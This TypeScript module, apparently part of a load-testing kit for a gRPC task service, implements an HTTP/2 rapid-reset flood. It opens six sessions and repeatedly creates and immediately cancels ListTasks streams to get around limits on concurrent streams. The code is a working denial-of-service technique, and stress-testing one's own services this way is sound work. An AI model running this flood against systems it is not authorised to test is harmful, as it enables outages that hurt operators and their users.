import { constants } from "node:http2";
import { flood } from "../kit.js";
import { grpcRequest, session } from "../raw.js";
import type { Target } from "../target.js";

/** Calls that are taken back as soon as they are made, so that no bound on open ones ever counts them. */
export async function rapidResets(target: Target): Promise<void> {
  const sessions = Array.from({ length: 6 }, (_, i) => session(target, i));
  await flood(target, { lanes: 6, most: 40_000 }, async (i) => {
    let http2 = sessions[i % sessions.length];
    if (!http2 || http2.destroyed) http2 = sessions[i % sessions.length] = session(target, i);
    for (let k = 0; k < 50; k += 1) {
      const stream = grpcRequest(http2, "/taskrun.v1.TaskService/ListTasks");
      stream.close(constants.NGHTTP2_CANCEL);
    }
  });
}
